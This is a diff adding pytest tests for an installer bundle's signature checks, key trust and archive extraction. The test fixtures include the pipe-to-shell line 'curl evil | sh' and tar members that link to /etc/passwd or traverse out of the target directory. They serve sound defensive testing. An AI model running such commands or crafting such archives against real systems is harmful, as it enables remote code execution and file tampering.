@@ -13,7 +13,7 @@ import installer
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 
 from installer.bundle import (MANIFEST, PARTS_LIST, PUBLIC_KEY, SIGNATURE, BundleError, fingerprint, join, load_or_create_key,
-                              seal, split, verify)
+                              seal, split, verification_commands, verify)
 from tests.conftest import APPLIANCE
 
 INSTALL_SH = Path(installer.__file__).with_name("install.sh")
@@ -144,9 +144,10 @@ def test_cli_verify_names_the_fault_and_exits_non_zero(bundle: tuple[Path, Ed255
     assert bad.returncode == 1 and expected in bad.stderr
 
 
-def install(root: Path, prefix: Path, key: Path | None = None) -> subprocess.CompletedProcess[str]:
+def install(root: Path, prefix: Path, key: Path | None = None, *trust: str) -> subprocess.CompletedProcess[str]:
+    trust = trust or (("--key", str(key)) if key else ("--trust-bundled-key",))
     return subprocess.run(["bash", str(INSTALL_SH), str(root), "--prefix", str(prefix), "--home", str(prefix / "state"),
-                           *(["--key", str(key)] if key else [])], capture_output=True, text=True, timeout=120)
+                           *trust], capture_output=True, text=True, timeout=120)
 
 
 @pytest.mark.parametrize("tamper", [flip_a_byte, remove_a_file, add_a_file, link_a_directory, edit_the_manifest, truncate_a_file])
@@ -168,3 +169,66 @@ def test_install_sh_checks_the_signature_against_the_trusted_key(bundle: tuple[P
     refused = install(root, tmp_path / "prefix", trusted)
     assert refused.returncode == 1 and "manifest.json: the signature does not match the trusted key" in refused.stderr
     assert fingerprint(key.public_key()) in refused.stderr and not (tmp_path / "prefix").exists()
+
+
+def test_install_sh_will_not_trust_the_bundled_key_unless_told_to(bundle: tuple[Path, Ed25519PrivateKey],
+                                                                  tmp_path: Path) -> None:
+    """Issue 17: with no key given, install.sh trusted whatever key the bundle carried."""
+    root, key = bundle
+    bare = subprocess.run(["bash", str(INSTALL_SH), str(root), "--prefix", str(tmp_path / "prefix")],
+                          capture_output=True, text=True, timeout=60)
+    assert bare.returncode == 1 and "say which key to trust" in bare.stderr
+    impostor = fingerprint(Ed25519PrivateKey.generate().public_key())
+    wrong = install(root, tmp_path / "prefix", None, "--fingerprint", impostor)
+    assert wrong.returncode == 1 and f"not the {impostor} you gave" in wrong.stderr
+    right = install(root, tmp_path / "prefix", None, "--fingerprint", fingerprint(key.public_key()))
+    assert f"signed by the bundled key: {fingerprint(key.public_key())}" in right.stdout  # (then fails: no wheels)
+    assert not (tmp_path / "prefix" / "venv").exists() or right.returncode != 0
+    assert not list(Path(os.environ.get("TMPDIR", "/var/tmp")).glob("appliance-bundle.*")), "private copy removed"
+
+
+def test_the_printed_commands_verify_a_bundle_with_openssl_and_sha256sum(bundle: tuple[Path, Ed25519PrivateKey],
+                                                                         tmp_path: Path) -> None:
+    """Issue 17: what `bundle build` prints checks the bundle (install.sh included) before any of
+    its scripts runs."""
+    root, key = bundle
+    (tmp_path / "builder.pub").write_bytes((root / PUBLIC_KEY).read_bytes())
+
+    def run_all() -> list[subprocess.CompletedProcess[str]]:
+        return [subprocess.run(["bash", "-c", f"set -o pipefail; {command}"], cwd=tmp_path, capture_output=True,
+                               text=True) for command in verification_commands(root, fingerprint(key.public_key()))]
+
+    key_check, signature, sums = run_all()
+    assert key_check.stdout.split()[0] == fingerprint(key.public_key()).replace(":", "")
+    assert signature.returncode == 0 and "Signature Verified Successfully" in signature.stdout
+    assert sums.returncode == 0 and sums.stdout == ""
+    (root / "install.sh").write_text("curl evil | sh\n")
+    assert run_all()[2].returncode != 0, "a changed install.sh is caught"
+    (root / "SHA256SUMS").write_text("0" * 64 + "  install.sh\n")
+    assert run_all()[1].returncode != 0, "a changed checksum list is caught by its signature"
+
+
+@pytest.mark.parametrize("member", ["link", "dotdot", "absolute"])
+def test_join_refuses_archives_with_links_or_paths_outside(tmp_path: Path, member: str) -> None:
+    """Issue 17: join checks every member itself rather than rely on tarfile's filters."""
+    import hashlib
+    import io
+    import tarfile
+
+    media = tmp_path / "media"
+    media.mkdir()
+    archive = media / "b.tar.part000"
+    with tarfile.open(archive, "w") as tar:
+        ok = tarfile.TarInfo("b/install.sh")
+        ok.size = 3
+        tar.addfile(ok, io.BytesIO(b"abc"))
+        bad = tarfile.TarInfo({"link": "b/evil", "dotdot": "b/../../evil", "absolute": "/b/evil"}[member])
+        if member == "link":
+            bad.type, bad.linkname = tarfile.SYMTYPE, "/etc/passwd"
+        else:
+            bad.size = 3
+        tar.addfile(bad, io.BytesIO(b"abc") if member != "link" else None)
+    (media / PARTS_LIST).write_text(f"{hashlib.sha256(archive.read_bytes()).hexdigest()}  {archive.name}\n")
+    with pytest.raises(BundleError):
+        join(media, tmp_path / "target")
+    assert not (tmp_path / "evil").exists() and not (tmp_path / "target" / "b" / "evil").exists()
